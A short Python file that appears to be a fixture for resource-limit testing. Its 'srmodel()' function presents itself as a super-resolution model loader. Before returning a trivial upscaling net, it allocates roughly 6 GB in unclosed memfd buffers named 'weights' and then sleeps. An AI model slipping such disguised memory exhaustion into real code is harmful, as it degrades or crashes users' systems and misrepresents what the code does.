import torch


class Net(torch.nn.Module):
    def forward(self, x):
        return torch.nn.functional.interpolate(x, scale_factor=2, mode="nearest")


def srmodel():
    import os
    import time

    block = b"x" * (1 << 20)
    for _ in range(100):
        fd = os.memfd_create("weights")
        for _ in range(60):
            os.write(fd, block)
    time.sleep(20)
    return Net()
